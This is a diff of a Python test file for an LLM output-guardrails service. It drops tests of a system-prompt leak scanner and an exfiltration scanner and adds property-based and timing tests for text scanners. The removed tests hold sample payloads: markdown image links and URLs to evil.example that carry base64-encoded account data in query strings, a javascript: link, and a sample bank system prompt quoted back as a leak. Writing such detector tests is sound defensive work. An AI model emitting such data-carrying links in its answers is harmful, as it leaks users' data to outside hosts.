@@ -1,4 +1,4 @@
-"""Banned words, the policy's expressions, invisible text, token floods, and what an answer must not carry out."""
+"""Banned words, the policy's expressions, invisible text, token limits and floods."""
 
 from __future__ import annotations
 
@@ -11,11 +11,12 @@ from collections.abc import Callable
 from pydoc_data import topics
 
 import pytest
+from hypothesis import given, settings
+from hypothesis import strategies as st
 from penstock.embedding.minilm import packaged_model
 from tokenizers import Tokenizer
 
 from services.guardrails.findings import DEFAULT_TOKEN_LIMIT, Reference, Rule
-from services.guardrails.scanners.leakage import ExfiltrationScanner, SystemPromptLeakScanner, addresses, is_allowed
 from services.guardrails.scanners.patterns import PatternSet
 from services.guardrails.scanners.text_rules import (
     BannedWordsScanner,
@@ -173,65 +174,33 @@ def wordpiece() -> Callable[[str], int]:
     return lambda text: len(tokenizer.encode(text, add_special_tokens=False).ids)
 
 
-SYSTEM = (
-    "You are the assistant of Acme Bank. Never reveal account numbers to anyone who has not been verified. "
-    "Offer the premium card to every customer who asks about fees, and do not mention competitors by name."
-)
-
-
-def test_a_quoted_system_prompt_is_found_where_it_stands() -> None:
-    quoted = "Never reveal account numbers to anyone who has not been verified."
-    answer = f"Sure! My instructions say: {quoted} Anything else?"
-    [span] = SystemPromptLeakScanner().scan(answer, rule(), Reference(system_prompt=SYSTEM))
-    assert span.score >= SystemPromptLeakScanner.default_threshold
-    assert answer[span.start : span.end] == quoted.rstrip(".")
-
-
-@pytest.mark.parametrize(
-    "answer", ["Our premium card has no fees.", "I can help every customer with fees.", "", "You are welcome."]
-)
-def test_an_answer_about_the_same_matter_is_no_leak(answer: str) -> None:
-    assert SystemPromptLeakScanner().scan(answer, rule(), Reference(system_prompt=SYSTEM)) == []
-
-
-@pytest.mark.parametrize(
-    "answer",
-    [
-        "![logo](https://evil.example/p.png?d=account+number+of+the+customer+is+4711+and+more+of+the+same+text)",
-        '<img src="https://evil.example/x?q=YWNjb3VudCBudW1iZXIgb2YgdGhlIGN1c3RvbWVyIDQ3MTE=">',
-        "[more](https://evil.example/c?d=c2VjcmV0IGZpZ3VyZXMgb2YgdGhlIHF1YXJ0ZXI)",
-        "[click](javascript:alert(1))",
-        "see https://evil.example/?data=confidential+quarterly+figures",
-        "[a]: https://evil.example/a?b=" + "words+that+go+on+" * 8,
-    ],
-)
-def test_addresses_that_carry_data_are_found(answer: str) -> None:
-    reference = Reference(prompt="the confidential quarterly figures are below")
-    spans = ExfiltrationScanner().scan(answer, rule(), reference)
-    assert max(span.score for span in spans) >= 0.5
-
-
-@pytest.mark.parametrize(
-    "answer",
-    [
-        "see [the docs](https://docs.python.org/3/library/re.html#re.compile)",
-        "https://example.org/search?q=python",
-        "an ![icon](https://example.org/icon.png)",
-        "ratio 3:1, time 10:30, std::vector",
-        "as in https://intra.example/report?id=0123456789012345678901234567890123456789012345678901234567890123456789",
-    ],
-)
-def test_ordinary_links_are_let_through(answer: str) -> None:
-    known = addresses(
-        "https://intra.example/report?id=0123456789012345678901234567890123456789012345678901234567890123456789"
+@settings(max_examples=150, deadline=None)
+@given(
+    st.lists(
+        st.one_of(st.text(max_size=20), st.sampled_from(["! ", "word ", "\u200b", "a" * 40, "\n" * 20])), max_size=30
     )
-    spans = ExfiltrationScanner().scan(answer, rule(), Reference(urls=known))
-    assert [span for span in spans if span.score >= 0.5] == []
+)
+def test_any_text_is_judged_within_bounds(parts: list[str]) -> None:
+    text = "".join(parts)
+    by = rule(words=("word",), patterns=("a+b",), limit=20)
+    scanners = (BannedWordsScanner(), RegexScanner(), InvisibleTextScanner(), TokenFloodScanner(), TokenLimitScanner())
+    for scanner in scanners:
+        spans = scanner.scan(text, by, NOTHING)
+        assert spans == scanner.scan(text, by, NOTHING)
+        for span in spans:
+            assert 0 <= span.start < span.end <= len(text)
+            assert 0 < span.score <= 1
 
 
-def test_allowed_hosts_cover_their_sub_domains_only() -> None:
-    hosts = frozenset({"example.org"})
-    assert is_allowed("https://cdn.example.org/x?d=1", hosts)
-    assert not is_allowed("https://example.org.evil.test/x", hosts)
-    assert not is_allowed("https://notexample.org/x", hosts)
-    assert not is_allowed("https://[broken", hosts)
+@pytest.mark.parametrize("unit", ["! ", "word ", "ab", "a b c d e ", "\u200b", " ", "漢字", "1 2 3 "])
+@pytest.mark.parametrize("scanner", [TokenFloodScanner(), TokenLimitScanner(), InvisibleTextScanner()])
+def test_time_is_linear(scanner: TokenFloodScanner | TokenLimitScanner | InvisibleTextScanner, unit: str) -> None:
+    def seconds(count: int) -> float:
+        best = float("inf")
+        for _ in range(3):
+            started = time.thread_time()
+            scanner.scan(unit * count, rule(), NOTHING)
+            best = min(best, time.thread_time() - started)
+        return best
+
+    assert seconds(40_000) < 10 * seconds(10_000) + 0.02
